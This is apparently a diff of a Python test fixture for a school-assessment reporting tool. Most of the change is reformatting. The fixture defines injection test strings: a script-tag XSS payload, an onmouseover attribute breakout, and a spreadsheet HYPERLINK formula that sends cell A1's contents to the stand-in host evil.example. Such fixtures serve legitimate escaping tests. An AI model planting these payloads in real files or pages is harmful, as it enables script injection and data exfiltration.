@@ -32,7 +32,7 @@ from tests.paths import SAMPLES
 DAY = date(2024, 11, 5)
 SCRIPT = "<script>alert(1)</script>"
 LINK = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
-QUOTES = "\" onmouseover=\"alert(1)\" '小学'"
+QUOTES = '" onmouseover="alert(1)" \'小学\''
 
 # name → whether the report has a plan, years and evidence, too
 NAMES = (
@@ -50,7 +50,12 @@ def short() -> tuple[Assessment, ...]:
                 make.school("S2", pupils=400),
                 make.school("S3", "junior", 300),
                 make.school("S4", "nine_year"),
-                facts={"year": 2022 + k, "exchange_eligible": 1000, "exchanged": 160 - 20 * k, "exchanged_backbone": 60},
+                facts={
+                    "year": 2022 + k,
+                    "exchange_eligible": 1000,
+                    "exchanged": 160 - 20 * k,
+                    "exchanged_backbone": 60,
+                },
             )
         )
         for k in range(3)
@@ -142,7 +147,7 @@ def evidence(assessment: Mapping[str, Any]) -> dict[str, Any]:
 def large(schools: int) -> Report:
     """A county of many schools, half of which fail."""
     rows = [
-        make.school(f"S{k}", "primary" if k % 3 else "junior", 300 + k, outdoor_sports_area=1000 if k % 2 else None or 9000)
+        make.school(f"S{k}", "primary" if k % 3 else "junior", 300 + k, outdoor_sports_area=1000 if k % 2 else 9000)
         for k in range(1, schools + 1)
     ]
     result = assess_submission(Submission(FileInfo("大县.xlsx", "ab" * 32), "qbe-county-1", make.county(*rows), ()))
